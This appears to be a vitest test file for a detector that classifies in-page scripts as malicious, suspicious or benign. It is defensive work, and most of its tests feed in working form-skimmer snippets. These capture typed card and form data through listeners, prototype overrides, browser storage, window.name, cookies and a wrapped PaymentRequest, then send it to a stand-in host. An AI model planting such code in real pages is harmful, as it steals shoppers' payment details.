import { describe, expect, it } from 'vitest'
import { judgeScript } from '#detection/index.ts'
import { carriesTyped, type Flow } from '#detection/subject.ts'

const flowOf = (kind: Flow['sources'][number]['kind']) => ({ sources: [{ kind, what: 'x', place: null }] }) as unknown as Flow

it.each(['card', 'password', 'value', 'form', 'keys', 'clipboard'] as const)('what a shopper provides by %s counts as typed', (kind) => {
  expect(carriesTyped(flowOf(kind))).toBe(true)
})

it.each(['cookie', 'storage'] as const)('what a page stores in %s does not', (kind) => {
  expect(carriesTyped(flowOf(kind))).toBe(false)
})

describe('typed data that leaves on a detour', () => {
  const verdict = (code: string) => judgeScript(code).verdict
  it.each([
    [
      'through an object that listens',
      `class Watch { #to; constructor(to) { this.#to = to; document.addEventListener('change', this) } handleEvent({ target }) { this.#send(target.name + target.value) } #send(text) { const x = new XMLHttpRequest(); x.open('POST', this.#to); x.send(text) } } new Watch('https://take.what-is-typed.example/')`,
    ],
    [
      'through the event of a form that is read',
      `addEventListener('formdata', ({ formData }) => { for (const [name, value] of formData) navigator.sendBeacon('https://take.what-is-typed.example/', name + value) })`,
    ],
    [
      'through the getter that a script puts around the one of all fields',
      `const own = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value'); Object.defineProperty(HTMLInputElement.prototype, 'value', { configurable: true, set: own.set, get() { const text = own.get.call(this); new Image().src = 'https://take.what-is-typed.example/?' + text; return text } })`,
    ],
    [
      'through storage that the next page reads completely',
      `document.addEventListener('input', (e) => localStorage.setItem('keep-' + e.target.name, e.target.value)); const all = []; for (const key of Object.keys(localStorage)) all.push(key + localStorage.getItem(key)); fetch('https://take.what-is-typed.example/', { method: 'POST', body: all.join() })`,
    ],
    [
      'through a key of the storage',
      `document.querySelector('form').addEventListener('submit', function () { localStorage.setItem('_ab', JSON.stringify([...new FormData(this)])) }); if (localStorage.getItem('_ab')) fetch('https://take.what-is-typed.example/', { method: 'POST', body: localStorage.getItem('_ab') })`,
    ],
    [
      'through a promise for each field',
      `Promise.all(['#n1', '#n2'].map((id) => new Promise((done) => document.querySelector(id).addEventListener('change', (e) => done(e.target.value))))).then((all) => fetch('https://take.what-is-typed.example/', { method: 'POST', mode: 'no-cors', body: btoa(all.join()) }))`,
    ],
    [
      'through a promise that is awaited in a loop',
      `(async () => { for (;;) { const text = await new Promise((done) => document.addEventListener('change', ({ target }) => done(target.value), { once: true })); navigator.sendBeacon('https://take.what-is-typed.example/', text) } })()`,
    ],
    [
      'through a function of the language that a script replaced',
      `const own = JSON.stringify; JSON.stringify = function (what) { const text = own.apply(JSON, arguments); if (/"cvc"/.test(text)) navigator.sendBeacon('https://take.what-is-typed.example/', text); return text }`,
    ],
    [
      'through a method of all texts that a script replaced',
      `Object.defineProperty(String.prototype, 'trim', { value() { if (/^\\d{4} /.test(this)) new Image().src = 'https://take.what-is-typed.example/?' + this; return this.valueOf() } })`,
    ],
    [
      'through a database of the browser',
      `const open = indexedDB.open('c'); open.onsuccess = () => { const all = open.result.transaction('k', 'readwrite').objectStore('k'); document.addEventListener('change', (e) => all.put(e.target.value, e.target.name)); all.getAll().onsuccess = (e) => fetch('https://take.what-is-typed.example/', { method: 'POST', body: JSON.stringify(e.target.result) }) }`,
    ],
    [
      "through the window's name",
      `document.forms[0].onsubmit = function () { window.name = btoa(new URLSearchParams(new FormData(this))) }; if (window.name) new Image().src = 'https://take.what-is-typed.example/?' + window.name`,
    ],
    [
      'through cookies that are all sent',
      `document.querySelector('#card-cvc').onchange = function () { document.cookie = '_s=' + this.value }; const s = document.createElement('script'); s.src = 'https://take.what-is-typed.example/?' + document.cookie; document.head.append(s)`,
    ],
    [
      "through the browser's payment dialog",
      `const Own = PaymentRequest; window.PaymentRequest = function (...given) { const own = new Own(...given), show = own.show.bind(own); own.show = async () => { const chosen = await show(); fetch('https://take.what-is-typed.example/', { method: 'POST', body: JSON.stringify(chosen.details) }); return chosen }; return own }`,
    ],
  ])('counts as sent: %s', (_, code) => expect(verdict(code)).toBe('malicious'))

  it('makes code suspicious that stores the fields of a card that it draws itself', () => {
    const code = `box.innerHTML = '<input id="n1" placeholder="Card number"><input id="n2" placeholder="CVV">'; pay.onclick = () => { sessionStorage.setItem('_x', btoa(document.getElementById('n1').value + document.getElementById('n2').value)); location.href = '/error' }`
    expect(verdict(code)).toBe('suspicious')
  })

  it('is not made up of polyfills', () => {
    const code = `if (!String.prototype.trim) String.prototype.trim = function () { return this.replace(/^\\s+|\\s+$/g, '') }; fetch('https://api.small-words.example/list')`
    expect(verdict(code)).toBe('benign')
  })
})

it.each([
  ['https://cdn.jsdelivr.net/gh/someone/somewhere@main/a.js', 'suspicious'],
  ['https://cdn.jsdelivr.net/npm/cleave.js@1.6.0/dist/cleave.min.js', 'benign'],
])('code for pages with a card field, from %s, is %s', (address, verdict) => {
  const code = `if (document.querySelector('[name="cardnumber"]')) { const s = document.createElement('script'); s.src = '${address}'; document.head.append(s) }`
  expect(judgeScript(code).verdict).toBe(verdict)
})
